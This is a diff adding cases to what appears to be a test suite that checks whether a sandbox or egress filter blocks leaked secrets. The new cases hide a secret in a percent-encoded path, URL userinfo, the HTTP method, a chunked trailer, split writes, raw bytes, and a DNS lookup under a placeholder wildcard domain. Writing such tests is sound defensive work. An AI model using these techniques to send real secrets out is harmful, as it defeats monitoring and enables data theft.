@@ -58,6 +58,42 @@ export const SECRETS: readonly EnforcementCase[] = [
     `GET /one HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
     `GET /two?${secret} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
   ]),
+  leak('percent', 'percent-encoded in a path', (secret, host) => {
+    const hidden = Buffer.from(secret).toString('hex').replaceAll(/../g, '%$&');
+    return [`GET /${hidden} HTTP/1.1\r\nHost: ${host}\r\n\r\n`];
+  }),
+  leak('absolute-form', 'in the user of an absolute form', (secret, host) => [
+    `GET http://${secret}@${host}/ HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
+  ]),
+  leak('method', 'as the method', (secret, host) => [`${secret} / HTTP/1.1\r\nHost: ${host}\r\n\r\n`]),
+  leak('trailer', 'in a trailer', (secret, host) => [
+    post(host, 'Transfer-Encoding: chunked\r\nTrailer: X-One\r\n', `1\r\na\r\n0\r\nX-One: ${secret}\r\n\r\n`),
+  ]),
+  leak('split-body', 'in a body, in two pieces', (secret, host) => [
+    post(host, `Content-Length: ${secret.length}\r\n`, secret.slice(0, 20)),
+    secret.slice(20),
+  ]),
+  leak('split-raw', 'in bytes that are no request, in two pieces', (secret) => [
+    `RAW ${secret.slice(0, 20)}`,
+    `${secret.slice(20)}\n`,
+  ]),
+  {
+    id: 'secret.name',
+    title: 'what stands for a secret, as a name below a star',
+    async run(world) {
+      if (!world.network) return skipped('this server carries nothing out');
+      const name = `${world.placeholder}.wild.report.example`;
+      const end = await world.probe.relay(name, world.target.port);
+      if (typeof end !== 'string') {
+        end.write('RAW\n');
+        await new Promise((resolve) => setTimeout(resolve, 500));
+        end.destroy();
+      }
+      return world.network.resolved().some((one) => one.includes(world.placeholder))
+        ? open('the name was looked up outside')
+        : blocked(typeof end === 'string' ? end : 'no query left');
+    },
+  },
   leak('raw', 'in bytes that are no request', (secret) => [`RAW ${secret}\n`]),
   leak('raw-later', 'later in bytes that are no request', (secret) => ['RAW first\n', `${secret}\n`]),
 ];
